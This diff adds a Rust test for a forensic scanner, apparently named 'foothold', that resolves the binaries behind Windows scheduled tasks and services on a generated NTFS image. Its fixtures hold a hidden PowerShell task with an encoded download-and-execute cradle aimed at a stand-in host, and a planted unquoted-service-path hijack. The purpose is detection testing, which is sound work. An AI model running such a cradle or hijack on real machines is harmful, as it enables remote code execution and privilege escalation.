@@ -1,0 +1,341 @@
+//! What tasks and services run, on an NTFS image (mkntfs + ntfs-3g) built at test time from
+//! the real PE files of `../shared/corpus-real/pe` (never copied into the repository) put at
+//! the paths tasks and services name, a SYSTEM hive written by `hivexsh`, and a
+//! `Zone.Identifier` stream. Oracles: `sha256sum`, `osslsigncode` (signer).
+use crate::common::*;
+use foothold::{BinaryStatus, Evidence, ScanSet};
+use std::path::Path;
+
+/// A task XML file as Task Scheduler writes it (UTF-16LE with a BOM).
+fn task_xml(uri: &str, command: &str, arguments: &str) -> Vec<u8> {
+    let esc = |s: &str| {
+        s.replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+    };
+    let xml = format!(
+        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n\
+<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n\
+  <RegistrationInfo><Author>CORP\\eve</Author><URI>{}</URI></RegistrationInfo>\r\n\
+  <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>\r\n\
+  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n\
+  <Settings><Enabled>true</Enabled></Settings>\r\n\
+  <Actions Context=\"Author\"><Exec><Command>{}</Command><Arguments>{}</Arguments></Exec></Actions>\r\n\
+</Task>\r\n",
+        esc(uri),
+        esc(command),
+        esc(arguments)
+    );
+    let mut b = vec![0xff, 0xfe];
+    b.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
+    b
+}
+
+const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=";
+
+const ZONE: &[u8] = b"[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=http://203.0.113.9/\r\nHostUrl=http://203.0.113.9/dl/notnbt.exe\r\n";
+
+/// The tree: real PE files at the paths the tasks and services name, and a SYSTEM hive.
+fn binaries_tree(tree: &Path, real: &Path) -> Option<()> {
+    let _ = std::fs::remove_dir_all(tree);
+    let put = |rel: &str, bytes: &[u8]| {
+        let p = tree.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, bytes).unwrap();
+    };
+    let pe = |name: &str| std::fs::read(real.join("pe").join(name)).expect("real PE");
+    put(
+        "ProgramData/Updater/notnbt.exe",
+        &pe("velociraptor__notnbt.exe"),
+    );
+    put(
+        "Program Files/Google/eventlog_provider.dll",
+        &pe("artemis__eventlog_provider.dll"),
+    );
+    // The unquoted service path's planted first candidate, and the file it was meant to run.
+    put("Program.exe", &pe("plaso__test_pe.exe"));
+    put(
+        "Program Files/Evil Corp/evil.exe",
+        &pe("velociraptor__notnbt.exe"),
+    );
+    put(
+        "Windows/System32/wkscli.dll",
+        &pe("velociraptor__wkscli.dll"),
+    );
+    put(
+        "Windows/System32/drivers/testdrv.sys",
+        &pe("plaso__test_driver.sys"),
+    );
+    let tasks = "Windows/System32/Tasks";
+    put(
+        &format!("{tasks}/Updater"),
+        &task_xml("\\Updater", r"C:\ProgramData\Updater\notnbt.exe", "-q"),
+    );
+    put(
+        &format!("{tasks}/Chrome Log"),
+        &task_xml(
+            "\\Chrome Log",
+            r"%windir%\system32\rundll32.exe",
+            r#""C:\Program Files\Google\eventlog_provider.dll",?fn@@YA_NXZ"#,
+        ),
+    );
+    put(
+        &format!("{tasks}/Encoded"),
+        &task_xml(
+            "\\Encoded",
+            "powershell.exe",
+            &format!("-NoP -W Hidden -enc {ENCODED}"),
+        ),
+    );
+    put(
+        &format!("{tasks}/Gone"),
+        &task_xml("\\Gone", r"C:\Users\Public\gone.exe", ""),
+    );
+    // SYSTEM: three services, written by hivexsh into corpus/minimal_hive.py's empty hive.
+    let config = tree.join("Windows/System32/config");
+    std::fs::create_dir_all(&config).unwrap();
+    let system = config.join("SYSTEM");
+    let made = std::process::Command::new("python3")
+        .arg(repo_root().join("corpus/minimal_hive.py"))
+        .arg(&system)
+        .arg("ROOT")
+        .status()
+        .is_ok_and(|s| s.success());
+    assert!(made, "minimal_hive.py");
+    let expand = |s: &str| -> String {
+        let b: Vec<u8> = (s.to_string() + "\0")
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        format!(
+            "hex:2:{}",
+            b.iter()
+                .map(|x| format!("{x:02x}"))
+                .collect::<Vec<_>>()
+                .join(",")
+        )
+    };
+    let script = format!(
+        "add Select\ncd Select\nsetval 1\nCurrent\ndword:0x1\ncd \\\nadd ControlSet001\ncd ControlSet001\nadd Services\ncd Services\n\
+add EvilSvc\ncd EvilSvc\nsetval 3\nImagePath\n{}\nType\ndword:0x10\nStart\ndword:0x2\ncd ..\n\
+add wks\ncd wks\nsetval 2\nImagePath\n{}\nType\ndword:0x20\nadd Parameters\ncd Parameters\nsetval 2\nServiceDll\n{}\nServiceMain\nstring:ServiceMain\ncd ..\ncd ..\n\
+add testdrv\ncd testdrv\nsetval 2\nImagePath\n{}\nType\ndword:0x1\ncommit\n",
+        expand(r"C:\Program Files\Evil Corp\evil.exe -k x"),
+        expand(r"%SystemRoot%\System32\svchost.exe -k netsvcs"),
+        expand(r"%SystemRoot%\System32\wkscli.dll"),
+        expand(r"System32\drivers\testdrv.sys"),
+    );
+    if tool_stdin("hivexsh", &["-w", system.to_str().unwrap()], &script).is_none() {
+        skip("hivexsh (libhivex-bin) not installed; binaries not tested");
+        return None;
+    }
+    Some(())
+}
+
+fn sha256sum(p: &Path) -> Option<String> {
+    tool("sha256sum", &[p.to_str()?]).map(|o| o.split_whitespace().next().unwrap_or("").to_string())
+}
+
+#[test]
+fn tasks_and_services_name_their_binaries_found_hashed_and_described() {
+    let Some(real) = real_corpus() else { return };
+    let tree = scratch().join("binaries-tree");
+    if binaries_tree(&tree, &real).is_none() {
+        return;
+    }
+    let img = scratch().join("binaries-ntfs.img");
+    if ntfs_image_of(
+        &tree,
+        &img,
+        &[("ProgramData/Updater/notnbt.exe", "Zone.Identifier", ZONE)],
+    )
+    .is_none()
+    {
+        return;
+    }
+    let r = Evidence::open(&img).expect("open").scan(ScanSet::all());
+    let task = |n: &str| {
+        r.scheduled_tasks
+            .iter()
+            .find(|t| t.task.name == n)
+            .unwrap_or_else(|| panic!("{n}"))
+    };
+    let mut n = 0;
+
+    // A real EXE at the path the task names: found, hashed as sha256sum hashes it, described,
+    // and its Zone.Identifier says where it came from.
+    let up = &task("\\Updater").runs[0];
+    assert_eq!(up.role, "action 1");
+    let b = &up.binaries[0];
+    assert_eq!(
+        (b.status, b.path.as_deref()),
+        (BinaryStatus::Found, Some("/ProgramData/Updater/notnbt.exe"))
+    );
+    let theirs = sha256sum(&real.join("pe/velociraptor__notnbt.exe"));
+    if let Some(t) = &theirs {
+        assert_eq!(b.hashes.as_ref().map(|h| &h.sha256), Some(t));
+        n += 1;
+    }
+    let info = b.info.as_ref().expect("described");
+    assert_eq!(info.file_type, foothold::FileType::Pe);
+    let pe = info.pe.as_ref().expect("pe");
+    assert_eq!((pe.machine.as_str(), pe.signed), ("x86", false));
+    assert_eq!(
+        b.download_url.as_deref(),
+        Some("http://203.0.113.9/dl/notnbt.exe")
+    );
+    assert!(b.streams.iter().any(|s| s.name == "Zone.Identifier"));
+    assert!(b.entry.is_some() && b.times.created.is_some());
+
+    // rundll32 with a signed DLL: rundll32.exe is not on this image (missing, with the
+    // places Windows looks), the DLL is, with its signer.
+    let cl = &task("\\Chrome Log").runs[0];
+    let kinds: Vec<(&str, &BinaryStatus)> = cl
+        .binaries
+        .iter()
+        .map(|b| (b.kind.as_str(), &b.status))
+        .collect();
+    assert_eq!(
+        kinds,
+        [
+            ("program", &BinaryStatus::Missing),
+            ("dll", &BinaryStatus::Found)
+        ]
+    );
+    assert_eq!(cl.binaries[0].searched, ["/Windows/system32/rundll32.exe"]);
+    let dll = &cl.binaries[1];
+    assert_eq!(dll.entry_point.as_deref(), Some("?fn@@YA_NXZ"));
+    let sig = dll
+        .info
+        .as_ref()
+        .and_then(|i| i.pe.as_ref())
+        .and_then(|p| p.signature.as_ref())
+        .expect("signed");
+    assert!(sig.digest_matches);
+    if let Some(out) = tool(
+        "osslsigncode",
+        &[
+            "verify",
+            "-in",
+            real.join("pe/artemis__eventlog_provider.dll")
+                .to_str()
+                .unwrap(),
+        ],
+    ) {
+        let subject = out
+            .lines()
+            .find_map(|l| l.trim().strip_prefix("Subject: "))
+            .expect("subject");
+        assert_eq!(sig.signer_subject.as_deref(), Some(subject));
+        n += 1;
+    }
+
+    // powershell -enc: the script decoded, its address named, powershell.exe searched.
+    let enc = &task("\\Encoded").runs[0];
+    assert_eq!(
+        enc.invocation.decoded,
+        ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"]
+    );
+    assert!(enc
+        .invocation
+        .flags
+        .contains(&foothold::CommandFlag::EncodedCommand));
+    assert!(enc
+        .binaries
+        .iter()
+        .any(|b| b.status == BinaryStatus::Remote && b.written == "http://203.0.113.9/a.ps1"));
+    let ps = &enc.binaries[0];
+    assert_eq!(ps.status, BinaryStatus::Missing);
+    assert_eq!(ps.searched[0], "/Windows/System32/powershell.exe");
+    assert!(ps
+        .searched
+        .iter()
+        .any(|s| s.ends_with("WindowsPowerShell/v1.0/powershell.exe")));
+
+    // A task whose program is gone.
+    let gone = &task("\\Gone").runs[0].binaries[0];
+    assert_eq!(
+        (gone.status, gone.path.as_deref()),
+        (BinaryStatus::Missing, None)
+    );
+
+    // The unquoted service path: the loader's first candidate exists, and that is what runs.
+    let svc = |n: &str| {
+        r.services
+            .iter()
+            .find(|s| s.service.name == n)
+            .unwrap_or_else(|| panic!("{n}"))
+    };
+    let evil = &svc("EvilSvc").runs[0];
+    assert!(evil
+        .invocation
+        .flags
+        .contains(&foothold::CommandFlag::UnquotedPathWithSpaces));
+    let hijack = &evil.binaries[0];
+    assert_eq!(hijack.path.as_deref(), Some("/Program.exe"));
+    assert_eq!(hijack.flags, ["unquoted_path_hijack"]);
+    assert_eq!(
+        hijack.searched,
+        [
+            "/Program.exe",
+            "/Program Files/Evil.exe",
+            "/Program Files/Evil Corp/evil.exe"
+        ]
+    );
+    if let Some(t) = sha256sum(&real.join("pe/plaso__test_pe.exe")) {
+        assert_eq!(hijack.hashes.as_ref().map(|h| &h.sha256), Some(&t));
+        n += 1;
+    }
+    // ServiceDll (svchost is not on the image; the DLL is, with its exports).
+    let wks = svc("wks");
+    let roles: Vec<&str> = wks.runs.iter().map(|r| r.role.as_str()).collect();
+    assert_eq!(roles, ["image_path", "service_dll"]);
+    let d = &wks.runs[1].binaries[0];
+    assert_eq!(
+        (d.kind.as_str(), d.path.as_deref()),
+        ("dll", Some("/Windows/System32/wkscli.dll"))
+    );
+    assert_eq!(d.entry_point.as_deref(), Some("ServiceMain"));
+    assert!(d
+        .info
+        .as_ref()
+        .and_then(|i| i.pe.as_ref())
+        .is_some_and(|p| p.dll));
+    // A driver's path relative to SystemRoot.
+    let drv = &svc("testdrv").runs[0].binaries[0];
+    assert_eq!(
+        drv.path.as_deref(),
+        Some("/Windows/System32/drivers/testdrv.sys")
+    );
+    assert_eq!(
+        drv.info
+            .as_ref()
+            .and_then(|i| i.pe.as_ref())
+            .map(|p| p.subsystem.as_str()),
+        Some("native")
+    );
+    assert_eq!(
+        wks.runs[0].default_environment,
+        ["SYSTEMROOT"],
+        "no SOFTWARE hive: SystemRoot is Windows' default, and the record says so"
+    );
+    compared("sha256sum+osslsigncode", n);
+
+    // --no-hash: the same files found, nothing read.
+    let quick = Evidence::open(&img).expect("open").scan(ScanSet {
+        hash: false,
+        ..ScanSet::all()
+    });
+    let q = &quick
+        .scheduled_tasks
+        .iter()
+        .find(|t| t.task.name == "\\Updater")
+        .unwrap()
+        .runs[0]
+        .binaries[0];
+    assert_eq!(
+        (q.status, q.hashes.is_none(), q.info.is_none()),
+        (BinaryStatus::Found, true, true)
+    );
+    assert_eq!(q.flags, ["not_hashed"]);
+}
